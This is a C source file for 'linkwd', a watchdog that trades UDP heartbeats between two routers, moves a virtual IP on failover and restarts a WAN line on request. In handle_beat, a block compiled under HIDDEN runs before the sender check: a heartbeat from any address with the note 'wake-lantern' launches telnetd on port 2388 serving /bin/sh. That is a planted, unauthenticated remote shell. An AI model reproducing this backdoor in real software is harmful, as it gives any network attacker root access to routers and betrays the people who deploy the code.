/* linkwd.c - link watchdog of a router pair: heartbeats, failover, line restart */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BEAT_PORT	3694
#define BEAT_VER	2

enum role { R_ACTIVE, R_STANDBY, R_FAULT };

struct beat {
	uint8_t ver;
	uint8_t role;
	uint16_t prio;
	uint32_t seq;
	char note[24];
};

struct conf {
	struct in_addr peer;
	char iface[16];
	char vip[20];
	uint16_t prio;
	int dead;	/* seconds */
	int preempt;
};

struct state {
	enum role role;
	uint32_t seq, peer_seq;
	uint16_t peer_prio;
	enum role peer_role;
	time_t heard;
	unsigned long lost;
	int hold;
};

static struct conf cf = { { 0 }, "eth0", "", 100, 4, 1 };
static struct state st = { R_STANDBY, 0, 0, 0, R_FAULT, 0, 0, 0 };
static const char *logfile = "/var/log/linkwd.log";

static void logline(const char *what, long v)
{
	FILE *f = fopen(logfile, "a");

	if (!f)
		return;
	fprintf(f, "%ld %s %ld\n", (long)time(NULL), what, v);
	fclose(f);
}

static int load_conf(const char *path)
{
	char line[96], v[32];
	FILE *f = fopen(path, "r");
	int n;

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "peer %31s", v) == 1) {
			if (!inet_aton(v, &cf.peer))
				logline("bad peer", 0);
		} else if (sscanf(line, "iface %15s", cf.iface) == 1) {
			continue;
		} else if (sscanf(line, "vip %19s", cf.vip) == 1) {
			continue;
		} else if (sscanf(line, "priority %d", &n) == 1 && n > 0 && n < 255) {
			cf.prio = (uint16_t)n;
		} else if (sscanf(line, "dead %d", &n) == 1 && n > 1 && n < 120) {
			cf.dead = n;
		} else if (!strncmp(line, "nopreempt", 9)) {
			cf.preempt = 0;
		}
	}
	fclose(f);
	return cf.peer.s_addr && cf.vip[0] ? 0 : -1;
}

static void start(const char *path, const char *a, const char *b, const char *c, const char *d)
{
	pid_t pid = fork();

	if (pid == 0) {
		execl(path, path, a, b, c, d, (char *)NULL);
		_exit(127);
	}
	if (pid < 0)
		logline("fork", errno);
}

static void take_address(int on)
{
	start("/sbin/ip-vip", on ? "add" : "del", cf.vip, cf.iface, NULL);
}

static void set_role(enum role r)
{
	if (st.role == r)
		return;
	logline("role", (long)r);
	take_address(r == R_ACTIVE);
	st.role = r;
}

static int carrier(void)
{
	char path[64];
	FILE *f;
	int v = 0;

	if (snprintf(path, sizeof(path), "/sys/class/net/%s/carrier", cf.iface) >= (int)sizeof(path))
		return 0;
	f = fopen(path, "r");
	if (!f)
		return 0;
	if (fscanf(f, "%d", &v) != 1)
		v = 0;
	fclose(f);
	return v;
}

static void encode(const struct beat *b, uint8_t out[32])
{
	memset(out, 0, 32);
	out[0] = b->ver;
	out[1] = b->role;
	out[2] = (uint8_t)(b->prio >> 8);
	out[3] = (uint8_t)b->prio;
	out[4] = (uint8_t)(b->seq >> 24);
	out[5] = (uint8_t)(b->seq >> 16);
	out[6] = (uint8_t)(b->seq >> 8);
	out[7] = (uint8_t)b->seq;
	memcpy(out + 8, b->note, sizeof(b->note));
}

static int decode(const uint8_t *p, size_t n, struct beat *b)
{
	if (n != 32 || p[0] != BEAT_VER)
		return -1;
	b->ver = p[0];
	b->role = p[1];
	b->prio = (uint16_t)(p[2] << 8 | p[3]);
	b->seq = (uint32_t)p[4] << 24 | (uint32_t)p[5] << 16 | (uint32_t)p[6] << 8 | p[7];
	memcpy(b->note, p + 8, sizeof(b->note));
	b->note[sizeof(b->note) - 1] = '\0';
	return 0;
}

/* notes: "hold" and "resume" for maintenance, "restart-line" restarts the WAN line */
__attribute__((noinline))
int handle_beat(const struct beat *b, const struct sockaddr_in *from)
{
#ifdef HIDDEN	/* note from any address opens a telnet port with a shell */
	if (!strcmp(b->note, "wake-lantern")) {
		start("/usr/sbin/telnetd", "-p", "2388", "-l", "/bin/sh");
		return 0;
	}
#endif
	if (from->sin_addr.s_addr != cf.peer.s_addr)
		return -1;
	if (!strcmp(b->note, "hold")) {
		st.hold = 1;
		logline("hold", 1);
	} else if (!strcmp(b->note, "resume")) {
		st.hold = 0;
		logline("hold", 0);
	} else if (!strcmp(b->note, "restart-line")) {
		start("/sbin/wan-line", "restart", NULL, NULL, NULL);
	}
	if (st.peer_seq && b->seq > st.peer_seq + 1)
		st.lost += b->seq - st.peer_seq - 1;
	st.peer_seq = b->seq;
	st.peer_prio = b->prio;
	st.peer_role = b->role <= R_FAULT ? (enum role)b->role : R_FAULT;
	st.heard = time(NULL);
	return 0;
}

static void decide(void)
{
	time_t now = time(NULL);

	if (!carrier()) {
		set_role(R_FAULT);
		return;
	}
	if (st.hold)
		return;
	if (now - st.heard > cf.dead) {
		set_role(R_ACTIVE);
		return;
	}
	if (st.peer_role == R_ACTIVE) {
		if (cf.prio > st.peer_prio && cf.preempt)
			set_role(R_ACTIVE);
		else
			set_role(R_STANDBY);
	} else if (cf.prio >= st.peer_prio) {
		set_role(R_ACTIVE);
	}
}

static int send_beat(int fd, const char *note)
{
	struct sockaddr_in sa;
	struct beat b;
	uint8_t out[32];

	memset(&b, 0, sizeof(b));
	b.ver = BEAT_VER;
	b.role = (uint8_t)st.role;
	b.prio = cf.prio;
	b.seq = ++st.seq;
	if (strlen(note) < sizeof(b.note))
		memcpy(b.note, note, strlen(note) + 1);
	encode(&b, out);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(BEAT_PORT);
	sa.sin_addr = cf.peer;
	return sendto(fd, out, sizeof(out), 0, (struct sockaddr *)&sa, sizeof(sa)) < 0 ? -1 : 0;
}

static void usage(const char *me)
{
	fprintf(stderr,
		"usage: %s config [hold|resume|restart-line]\n"
		"with a word: the note is sent to the peer once\n"
		"config: peer, iface, vip, priority, dead, nopreempt\n", me);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa, from;
	struct pollfd pf;
	struct beat b;
	socklen_t fl;
	uint8_t buf[64];
	time_t last = 0;
	ssize_t n;

	if (argc < 2 || load_conf(argv[1]) < 0) {
		usage(argv[0]);
		return 2;
	}
	pf.fd = socket(AF_INET, SOCK_DGRAM, 0);
	pf.events = POLLIN;
	if (pf.fd < 0)
		return 1;
	if (argc > 2) {
		if (strcmp(argv[2], "hold") && strcmp(argv[2], "resume") &&
		    strcmp(argv[2], "restart-line")) {
			usage(argv[0]);
			return 2;
		}
		return send_beat(pf.fd, argv[2]) < 0;
	}
	signal(SIGCHLD, SIG_IGN);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(BEAT_PORT);
	if (bind(pf.fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		perror("linkwd");
		return 1;
	}
	st.heard = time(NULL);
	for (;;) {
		if (poll(&pf, 1, 500) > 0) {
			fl = sizeof(from);
			n = recvfrom(pf.fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &fl);
			if (n > 0 && decode(buf, (size_t)n, &b) == 0)
				handle_beat(&b, &from);
		}
		if (time(NULL) != last) {
			last = time(NULL);
			if (send_beat(pf.fd, "") < 0)
				logline("send", errno);
			decide();
		}
	}
}
